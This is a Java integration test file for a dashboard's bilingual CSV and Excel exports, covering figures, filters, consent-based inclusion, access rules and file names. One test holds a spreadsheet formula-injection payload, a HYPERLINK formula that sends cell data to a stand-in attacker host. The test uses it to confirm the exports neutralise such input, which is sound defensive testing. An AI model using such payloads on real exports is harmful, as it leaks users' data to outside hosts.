package ca.repere.network;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import ca.repere.account.Grant;
import ca.repere.assessment.AssessmentService;
import ca.repere.framework.FrameworkVersionView.PillarView;
import ca.repere.framework.FrameworkVersionView.RatingLevelView;
import ca.repere.network.NetworkDashboard.Cell;
import ca.repere.network.NetworkDashboard.CriterionNeed;
import ca.repere.network.NetworkDashboard.Dashboard;
import ca.repere.network.NetworkDashboard.HeatmapLine;
import ca.repere.organisation.OrganisationDirectory;
import ca.repere.organisation.OrganisationProfile;
import ca.repere.organisation.Province;
import ca.repere.organisation.ServiceArea;
import ca.repere.organisation.SizeBand;
import ca.repere.shared.web.Dates;
import ca.repere.support.IntegrationTest;
import ca.repere.support.TestData;
import ca.repere.support.TestData.User;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.PaneInformation;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.http.HttpStatus;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.web.util.HtmlUtils;

/**
 * Downloads of the dashboard's heatmap and criterion distribution: they hold what the page shows
 * (the service's own figures, in its order, with its filters, every row), by consent only, for the
 * same people, and parse back as CSV and as a workbook of numbers.
 */
class DashboardExportTest extends IntegrationTest {

    private static final DashboardParams ALL = new DashboardParams(null, null, null, null, null, null, false);
    private static final Locale FR = Locale.CANADA_FRENCH;

    @Autowired
    AssessmentService assessments;

    @Autowired
    OrganisationDirectory directory;

    @Autowired
    NetworkSharing sharing;

    @Autowired
    NetworkDashboard dashboards;

    @Autowired
    Dates dates;

    @Value("${repere.time-zone:America/Toronto}")
    String zone;

    @Test
    void heatmapCsvHoldsThePagesFiguresWithHeadersInTheReadersLanguage() throws Exception {
        Setup setup = networkWithAKeeper();
        Dashboard dashboard = dashboards.dashboard(data.current(setup.coordinator), setup.network, ALL);
        assertThat(dashboard.heatmap()).hasSize(3);

        for (Locale locale : List.of(FR, Locale.ENGLISH)) {
            boolean fr = locale == FR;
            List<CSVRecord> records = csv(download(setup.coordinator, setup.network, "heatmap.csv", locale, ""));

            String overall = fr ? "Global" : "Overall";
            String level = fr ? " – niveau" : " – level";
            List<String> headers = new ArrayList<>(List.of(
                    fr ? "Organisme" : "Organization",
                    fr ? "Soumise" : "Submitted",
                    overall + " (%)",
                    overall + level));
            for (PillarView pillar : dashboard.pillars()) {
                String name = fr
                        ? "Pilier " + pillar.code() + " : " + pillar.title().fr()
                        : "Pillar " + pillar.code() + ": " + pillar.title().en();
                headers.add(name + " (%)");
                headers.add(name + level);
            }
            assertThat(records.get(0).getParser().getHeaderNames()).containsExactlyElementsOf(headers);

            assertThat(records).hasSize(dashboard.heatmap().size());
            for (int i = 0; i < records.size(); i++) {
                CSVRecord record = records.get(i);
                HeatmapLine line = dashboard.heatmap().get(i);
                assertThat(record.get(0)).isEqualTo(line.name());
                assertThat(record.get(1)).isEqualTo(dates.sortable(line.submittedAt()));
                assertCsvCell(record, 2, line.overall(), locale);
                for (int p = 0; p < line.pillars().size(); p++) {
                    assertCsvCell(record, 4 + 2 * p, line.pillars().get(p), locale);
                }
            }
        }
        // The figures themselves, not only agreement: pillar 1 of the member that rated 1.1 to 1.3 zero.
        CSVRecord weak = csv(download(setup.coordinator, setup.network, "heatmap.csv", Locale.ENGLISH, "")).stream()
                .filter(record -> record.get(0).equals(setup.weak.name))
                .findFirst()
                .orElseThrow();
        assertThat(Integer.parseInt(weak.get(4))).isLessThan(100);
        assertThat(Integer.parseInt(weak.get(6))).isEqualTo(100);
    }

    @Test
    void heatmapWorkbookHoldsNumbersDatesAndABoldFrozenHeaderInTheReadersLanguage() throws Exception {
        Setup setup = networkWithAKeeper();
        Dashboard dashboard = dashboards.dashboard(data.current(setup.coordinator), setup.network, ALL);

        for (Locale locale : List.of(FR, Locale.ENGLISH)) {
            boolean fr = locale == FR;
            try (XSSFWorkbook workbook = xlsx(download(setup.coordinator, setup.network, "heatmap.xlsx", locale, ""))) {
                assertThat(workbook.getNumberOfSheets()).isEqualTo(1);
                Sheet sheet = workbook.getSheetAt(0);
                assertThat(sheet.getSheetName()).isEqualTo(fr ? "Où en sont les membres" : "Where members stand");
                assertHeader(workbook, sheet, 1);
                Row header = sheet.getRow(0);
                assertThat(header.getCell(0).getStringCellValue()).isEqualTo(fr ? "Organisme" : "Organization");
                assertThat(header.getCell(2).getStringCellValue()).isEqualTo(fr ? "Global (%)" : "Overall (%)");
                PillarView first = dashboard.pillars().get(0);
                assertThat(header.getCell(4).getStringCellValue())
                        .isEqualTo(
                                fr
                                        ? "Pilier 1 : " + first.title().fr() + " (%)"
                                        : "Pillar 1: " + first.title().en() + " (%)");
                assertThat(header.getLastCellNum())
                        .isEqualTo((short) (4 + 2 * dashboard.pillars().size()));

                assertThat(sheet.getLastRowNum()).isEqualTo(dashboard.heatmap().size());
                for (int i = 0; i < dashboard.heatmap().size(); i++) {
                    HeatmapLine line = dashboard.heatmap().get(i);
                    Row row = sheet.getRow(i + 1);
                    assertThat(row.getCell(0).getStringCellValue()).isEqualTo(line.name());
                    org.apache.poi.ss.usermodel.Cell submitted = row.getCell(1);
                    assertThat(submitted.getCellType()).isEqualTo(CellType.NUMERIC);
                    assertThat(DateUtil.isCellDateFormatted(submitted)).isTrue();
                    assertThat(submitted.getLocalDateTimeCellValue())
                            .isEqualTo(line.submittedAt()
                                    .atZone(ZoneId.of(zone))
                                    .toLocalDateTime()
                                    .truncatedTo(ChronoUnit.SECONDS));
                    assertXlsxCell(row, 2, line.overall(), locale);
                    for (int p = 0; p < line.pillars().size(); p++) {
                        assertXlsxCell(row, 4 + 2 * p, line.pillars().get(p), locale);
                    }
                }
            }
        }
    }

    @Test
    void needsExportsRankCriteriaAsThePageDoesWithACountPerLevelNamedInTheHeader() throws Exception {
        Setup setup = networkWithAKeeper();
        Dashboard dashboard = dashboards.dashboard(data.current(setup.coordinator), setup.network, ALL);
        List<RatingLevelView> levels = dashboard.version().ratingScale();
        assertThat(dashboard.needs()).isNotEmpty();

        for (Locale locale : List.of(FR, Locale.ENGLISH)) {
            boolean fr = locale == FR;
            String low = fr ? "Cotés aux deux niveaux les plus bas" : "Rated in the two lowest levels";
            List<String> headers = new ArrayList<>(List.of(
                    fr ? "Pilier" : "Pillar",
                    fr ? "Titre du pilier" : "Pillar title",
                    fr ? "Code du critère" : "Criterion code",
                    fr ? "Critère" : "Criterion",
                    low + " (%)",
                    low + (fr ? " (nombre)" : " (number)"),
                    fr ? "Membres qui l’ont coté" : "Members that rated it"));
            levels.forEach(
                    level -> headers.add(level.value() + " – " + level.label().in(locale)));
            headers.add(fr ? "Sans objet ou non coté" : "Not applicable or not rated");

            List<CSVRecord> records = csv(download(setup.coordinator, setup.network, "needs.csv", locale, ""));
            assertThat(records.get(0).getParser().getHeaderNames()).containsExactlyElementsOf(headers);
            assertThat(records).hasSize(dashboard.needs().size());

            try (XSSFWorkbook workbook = xlsx(download(setup.coordinator, setup.network, "needs.xlsx", locale, ""))) {
                Sheet sheet = workbook.getSheetAt(0);
                assertThat(sheet.getSheetName()).isEqualTo(fr ? "Besoins de soutien" : "Support needs");
                assertHeader(workbook, sheet, 0);
                for (int c = 0; c < headers.size(); c++) {
                    assertThat(sheet.getRow(0).getCell(c).getStringCellValue()).isEqualTo(headers.get(c));
                }
                assertThat(sheet.getLastRowNum()).isEqualTo(dashboard.needs().size());
                assertThat(sheet.getColumnWidth(3)).isGreaterThanOrEqualTo(60 * 256);
                assertThat(sheet.getRow(1).getCell(3).getCellStyle().getWrapText())
                        .isTrue();

                for (int i = 0; i < dashboard.needs().size(); i++) {
                    CriterionNeed need = dashboard.needs().get(i);
                    PillarView pillar = dashboard.pillars().stream()
                            .filter(candidate -> candidate.code().equals(need.pillarCode()))
                            .findFirst()
                            .orElseThrow();
                    List<Object> expected = new ArrayList<>(List.of(
                            need.pillarCode(),
                            pillar.title().in(locale),
                            need.criterionCode(),
                            need.text().in(locale),
                            need.lowShare(),
                            need.low(),
                            need.rated()));
                    levels.forEach(level -> expected.add(need.byRating().get(level.value())));
                    expected.add(need.notRated());

                    CSVRecord record = records.get(i);
                    Row row = sheet.getRow(i + 1);
                    for (int c = 0; c < expected.size(); c++) {
                        Object value = expected.get(c);
                        assertThat(record.get(c))
                                .as("CSV %s, %s", need.criterionCode(), headers.get(c))
                                .isEqualTo(String.valueOf(value));
                        org.apache.poi.ss.usermodel.Cell cell = row.getCell(c);
                        if (value instanceof Integer number) {
                            assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
                            assertThat(cell.getNumericCellValue())
                                    .as("XLSX %s, %s", need.criterionCode(), headers.get(c))
                                    .isCloseTo(c == 4 ? number / 100.0 : number, within(1e-9));
                        } else {
                            assertThat(cell.getStringCellValue()).isEqualTo(value);
                        }
                    }
                    assertThat(row.getCell(4).getCellStyle().getDataFormatString())
                            .isEqualTo("0%");
                }
            }
        }
        // Criteria 1.1 to 1.3 are rated 0 by one sharing member of three (the keeper's zeros do not count).
        CSVRecord first = csv(download(setup.coordinator, setup.network, "needs.csv", Locale.ENGLISH, ""))
                .get(0);
        assertThat(first.get(2)).isIn("1.1", "1.2", "1.3");
        assertThat(first.get(4)).isEqualTo("33");
        assertThat(first.get(5)).isEqualTo("1");
        assertThat(first.get(6)).isEqualTo("3");
    }

    @Test
    void aMemberThatDoesNotShareNeverAppearsInAnyExport() throws Exception {
        Setup setup = networkWithAKeeper();

        for (String file : List.of("heatmap.csv", "needs.csv")) {
            String text = new String(
                    download(setup.coordinator, setup.network, file, Locale.ENGLISH, ""), StandardCharsets.UTF_8);
            assertThat(text).doesNotContain(setup.keeper.name);
        }
        try (XSSFWorkbook workbook =
                xlsx(download(setup.coordinator, setup.network, "heatmap.xlsx", Locale.ENGLISH, ""))) {
            assertThat(column(workbook.getSheetAt(0), 0))
                    .contains(setup.weak.name, setup.strong.name, setup.middle.name)
                    .doesNotContain(setup.keeper.name);
        }
        // The keeper rated 4.1 zero; no sharing member did, so no one rates it low and only three rated it.
        try (XSSFWorkbook workbook =
                xlsx(download(setup.coordinator, setup.network, "needs.xlsx", Locale.ENGLISH, ""))) {
            Sheet sheet = workbook.getSheetAt(0);
            Row criterion = null;
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                if (sheet.getRow(r).getCell(2).getStringCellValue().equals("4.1")) {
                    criterion = sheet.getRow(r);
                }
            }
            assertThat(criterion).isNotNull();
            assertThat(criterion.getCell(5).getNumericCellValue()).isZero();
            assertThat(criterion.getCell(6).getNumericCellValue()).isEqualTo(3);
        }
    }

    @Test
    void downloadsFollowThePagesFiltersAndOrder() throws Exception {
        Setup setup = networkWithAKeeper();
        String query = "province=ON&sort=overall&descending=true";
        Dashboard filtered = dashboards.dashboard(
                data.current(setup.coordinator),
                setup.network,
                new DashboardParams(Province.ON, null, null, null, null, "overall", true));
        List<String> expected =
                filtered.heatmap().stream().map(HeatmapLine::name).toList();
        // Ontario holds the weak and the strong member; Quebec the middle one.
        assertThat(expected).containsExactly(setup.strong.name, setup.weak.name);

        assertThat(csv(download(setup.coordinator, setup.network, "heatmap.csv", Locale.ENGLISH, query)))
                .extracting(record -> record.get(0))
                .containsExactlyElementsOf(expected);
        try (XSSFWorkbook workbook =
                xlsx(download(setup.coordinator, setup.network, "heatmap.xlsx", Locale.ENGLISH, query))) {
            assertThat(column(workbook.getSheetAt(0), 0)).containsExactlyElementsOf(expected);
        }
        // Criteria rated by the two Ontario members only.
        assertThat(csv(download(setup.coordinator, setup.network, "needs.csv", Locale.ENGLISH, query)))
                .allSatisfy(record -> assertThat(
                                Integer.parseInt(record.get(6)) + Integer.parseInt(record.get(record.size() - 1)))
                        .isEqualTo(2));
        // A value that is not a choice is dropped, as on the page.
        assertThat(csv(download(setup.coordinator, setup.network, "heatmap.csv", Locale.ENGLISH, "province=XX")))
                .hasSize(3);
    }

    @Test
    void theDashboardsLinksDownloadWhatThePageShows() throws Exception {
        Setup setup = networkWithAKeeper();
        String page = mvc.get()
                .uri("/networks/{n}/dashboard?lang=en&province=ON&sort=overall&descending=true", setup.network)
                .with(as(setup.coordinator))
                .exchange()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);

        List<String> links = new ArrayList<>();
        Matcher matcher = Pattern.compile("href=\"([^\"]*/dashboard/(?:heatmap|needs)\\.(?:csv|xlsx)[^\"]*)\"")
                .matcher(page);
        while (matcher.find()) {
            links.add(HtmlUtils.htmlUnescape(matcher.group(1)));
        }
        assertThat(links)
                .hasSize(4)
                .allSatisfy(link -> assertThat(link)
                        .contains("province=ON")
                        .contains("framework=")
                        .contains("sort=overall")
                        .contains("descending=true"));
        assertThat(page).contains("Download:").contains("Excel (XLSX)");

        String heatmap = links.stream()
                .filter(link -> link.contains("heatmap.csv"))
                .findFirst()
                .orElseThrow();
        MvcTestResult result =
                mvc.get().uri(heatmap).with(as(setup.coordinator)).exchange();
        assertThat(result).hasStatusOk();
        assertThat(csv(result.getResponse().getContentAsByteArray()))
                .extracting(record -> record.get(0))
                .containsExactly(setup.strong.name, setup.weak.name);
    }

    @Test
    void everySharingMemberIsExportedNotOnlyTheFirstPage() throws Exception {
        int count = 30;
        List<Member> members = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            members.add(member("Many", Province.ON, Map.of("2.1", i % 5)));
        }
        long network =
                data.network(members.stream().mapToLong(member -> member.id).toArray());
        members.forEach(member -> share(member, network));
        User coordinator = data.user(Grant.coordinatorOf(network));

        assertThat(csv(download(coordinator, network, "heatmap.csv", Locale.ENGLISH, "sort=name")))
                .extracting(record -> record.get(0))
                .containsExactlyElementsOf(members.stream()
                        .map(member -> member.name)
                        .sorted(String.CASE_INSENSITIVE_ORDER)
                        .toList());
        try (XSSFWorkbook workbook = xlsx(download(coordinator, network, "heatmap.xlsx", Locale.ENGLISH, ""))) {
            assertThat(workbook.getSheetAt(0).getLastRowNum()).isEqualTo(count);
        }
        // Every sharing member is counted in each criterion's distribution.
        assertThat(csv(download(coordinator, network, "needs.csv", Locale.ENGLISH, "")))
                .allSatisfy(record -> assertThat(record.get(6)).isEqualTo(String.valueOf(count)));
    }

    @Test
    void formulasTypedAsOrganisationNamesAreInertInBothFiles() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Open\") " + TestData.unique("x");
        String minus = "-2+3 " + TestData.unique("y");
        Member attacker = member(formula, Province.ON, Map.of());
        Member other = member(minus, Province.ON, Map.of());
        long network = data.network(attacker.id, other.id);
        share(attacker, network);
        share(other, network);
        User coordinator = data.user(Grant.coordinatorOf(network));

        assertThat(csv(download(coordinator, network, "heatmap.csv", Locale.ENGLISH, "")))
                .extracting(record -> record.get(0))
                .containsExactlyInAnyOrder("'" + formula, "'" + minus);
        try (XSSFWorkbook workbook = xlsx(download(coordinator, network, "heatmap.xlsx", Locale.ENGLISH, ""))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                // A string cell is shown as typed and never evaluated.
                assertThat(sheet.getRow(r).getCell(0).getCellType()).isEqualTo(CellType.STRING);
            }
            assertThat(column(sheet, 0)).containsExactlyInAnyOrder(formula, minus);
        }
    }

    @Test
    void onlyTheNetworksCoordinatorsAndAdminsDownload() throws Exception {
        Setup setup = networkWithAKeeper();
        User otherCoordinator = data.user(Grant.coordinatorOf(data.network(data.organisation())));
        User admin = data.user(Grant.admin());

        for (String file : List.of("heatmap.csv", "heatmap.xlsx", "needs.csv", "needs.xlsx")) {
            String uri = "/networks/" + setup.network + "/dashboard/" + file;
            assertThat(mvc.get().uri(uri).with(as(otherCoordinator))).hasStatus(HttpStatus.FORBIDDEN);
            assertThat(mvc.get().uri(uri).with(as(setup.weak.lead))).hasStatus(HttpStatus.FORBIDDEN);
            assertThat(mvc.get().uri(uri).with(as(setup.keeper.lead))).hasStatus(HttpStatus.FORBIDDEN);
            assertThat(mvc.get().uri(uri))
                    .hasStatus3xxRedirection()
                    .redirectedUrl()
                    .contains("/login");
            assertThat(mvc.get().uri(uri).with(as(admin))).hasStatusOk();
        }
        // A file the dashboard does not offer: not found for those who may see the network, forbidden for others.
        String unknown = "/networks/" + setup.network + "/dashboard/participation.csv";
        assertThat(mvc.get().uri(unknown).with(as(setup.coordinator))).hasStatus(HttpStatus.NOT_FOUND);
        assertThat(mvc.get().uri(unknown).with(as(otherCoordinator))).hasStatus(HttpStatus.FORBIDDEN);
        assertThat(mvc.get()
                        .uri("/networks/" + setup.network + "/dashboard/heatmap.pdf")
                        .with(as(setup.coordinator)))
                .hasStatus(HttpStatus.NOT_FOUND);
    }

    @Test
    void filesAreNamedAfterTheNetworkTheTableAndTheDay() throws Exception {
        Setup setup = networkWithAKeeper();
        String network = directory.network(setup.network).orElseThrow().name();
        String slug = network.toLowerCase(Locale.ROOT).replace("é", "e");
        String day = LocalDate.now(ZoneId.of(zone)).toString();

        MvcTestResult csv = mvc.get()
                .uri("/networks/{n}/dashboard/heatmap.csv?lang=fr", setup.network)
                .with(as(setup.coordinator))
                .exchange();
        assertThat(csv).hasStatusOk().hasContentType("text/csv;charset=UTF-8");
        assertThat(csv.getResponse().getHeader("Content-Disposition"))
                .startsWith("attachment")
                .contains(slug + "-ou-en-sont-les-membres-" + day + ".csv");
        assertThat(csv.getResponse().getHeader("Cache-Control")).contains("no-store");

        MvcTestResult xlsx = mvc.get()
                .uri("/networks/{n}/dashboard/needs.xlsx?lang=en", setup.network)
                .with(as(setup.coordinator))
                .exchange();
        assertThat(xlsx)
                .hasStatusOk()
                .hasContentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(xlsx.getResponse().getHeader("Content-Disposition"))
                .contains(slug + "-support-needs-" + day + ".xlsx");
    }

    private void assertCsvCell(CSVRecord record, int column, Cell cell, Locale locale) {
        if (cell.percent() == null) {
            assertThat(record.get(column)).isEmpty();
            assertThat(record.get(column + 1)).isEqualTo(locale == FR ? "Sans score" : "Not scored");
        } else {
            assertThat(record.get(column)).isEqualTo(String.valueOf(cell.percent()));
            assertThat(record.get(column + 1)).isEqualTo(cell.band().label().in(locale));
        }
    }

    private void assertXlsxCell(Row row, int column, Cell cell, Locale locale) {
        org.apache.poi.ss.usermodel.Cell percent = row.getCell(column);
        if (cell.percent() == null) {
            assertThat(percent).isNull();
            return;
        }
        assertThat(percent.getCellType()).isEqualTo(CellType.NUMERIC);
        assertThat(percent.getNumericCellValue()).isCloseTo(cell.percent() / 100.0, within(1e-9));
        assertThat(percent.getCellStyle().getDataFormatString()).isEqualTo("0%");
        // What the spreadsheet shows is the page's figure.
        assertThat(new DataFormatter(Locale.ENGLISH).formatCellValue(percent)).isEqualTo(cell.percent() + "%");
        assertThat(row.getCell(column + 1).getStringCellValue())
                .isEqualTo(cell.band().label().in(locale));
    }

    /** Bold, frozen and filterable header; columns given a width rather than the default. */
    private static void assertHeader(XSSFWorkbook workbook, Sheet sheet, int frozenColumns) {
        Row header = sheet.getRow(0);
        for (org.apache.poi.ss.usermodel.Cell cell : header) {
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(workbook.getFontAt(cell.getCellStyle().getFontIndex()).getBold())
                    .as("bold %s", cell.getStringCellValue())
                    .isTrue();
            var column = ((XSSFSheet) sheet).getColumnHelper().getColumn(cell.getColumnIndex(), false);
            assertThat(column).as("width of %s", cell.getStringCellValue()).isNotNull();
            assertThat(column.getCustomWidth()).isTrue();
        }
        PaneInformation pane = sheet.getPaneInformation();
        assertThat(pane).isNotNull();
        assertThat(pane.isFreezePane()).isTrue();
        assertThat(pane.getHorizontalSplitPosition()).isEqualTo((short) 1);
        assertThat(pane.getVerticalSplitPosition()).isEqualTo((short) frozenColumns);
        assertThat(((org.apache.poi.xssf.usermodel.XSSFSheet) sheet)
                        .getCTWorksheet()
                        .isSetAutoFilter())
                .isTrue();
    }

    private static List<String> column(Sheet sheet, int column) {
        List<String> values = new ArrayList<>();
        for (int r = 1; r <= sheet.getLastRowNum(); r++) {
            values.add(sheet.getRow(r).getCell(column).getStringCellValue());
        }
        return values;
    }

    private byte[] download(User user, long network, String file, Locale locale, String query) throws Exception {
        MvcTestResult result = mvc.get()
                .uri("/networks/" + network + "/dashboard/" + file + "?lang=" + locale.getLanguage()
                        + (query.isEmpty() ? "" : "&" + query))
                .with(as(user))
                .exchange();
        assertThat(result).hasStatusOk();
        return result.getResponse().getContentAsByteArray();
    }

    private static List<CSVRecord> csv(byte[] bytes) throws IOException {
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
        CSVParser parser = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(text));
        return parser.getRecords();
    }

    private static XSSFWorkbook xlsx(byte[] bytes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    }

    /**
     * Three sharing members — weak (Ontario, pillar 1 partly rated 0), strong (Ontario, all 4) and
     * middle (Quebec, pillar 2 rated 2) — and a keeper that does not share and rated 4.1 zero.
     */
    private Setup networkWithAKeeper() {
        Member weak = member("Weak", Province.ON, Map.of("1.1", 0, "1.2", 0, "1.3", 0));
        Member strong = member("Strong", Province.ON, Map.of());
        Member middle = member("Middle", Province.QC, Map.of("2.1", 2, "2.2", 2, "2.3", 2));
        Member keeper = member("Keeper", Province.ON, Map.of("4.1", 0, "1.1", 0));
        long network = data.network(weak.id, strong.id, middle.id, keeper.id);
        share(weak, network);
        share(strong, network);
        share(middle, network);
        return new Setup(network, data.user(Grant.coordinatorOf(network)), weak, strong, middle, keeper);
    }

    private void share(Member member, long network) {
        sharing.share(data.current(member.lead), member.id, network, true);
    }

    private Member member(String prefix, Province province, Map<String, Integer> ratings) {
        String name = prefix.startsWith("=") || prefix.startsWith("-") ? prefix : TestData.unique(prefix);
        long organisation = directory.createOrganisation(new OrganisationProfile(
                name, province, SizeBand.SMALL, 5, 10, Set.of(ServiceArea.REFUGEE_CLAIMS), true));
        User lead = data.user(Grant.leadOf(organisation));
        long assessment = testAssessments.ccrCleoRated(lead, organisation, ratings);
        assessments.submit(data.current(lead), organisation, assessment);
        return new Member(organisation, name, lead, assessment);
    }

    private record Setup(long network, User coordinator, Member weak, Member strong, Member middle, Member keeper) {}

    private record Member(long id, String name, User lead, long assessment) {}
}
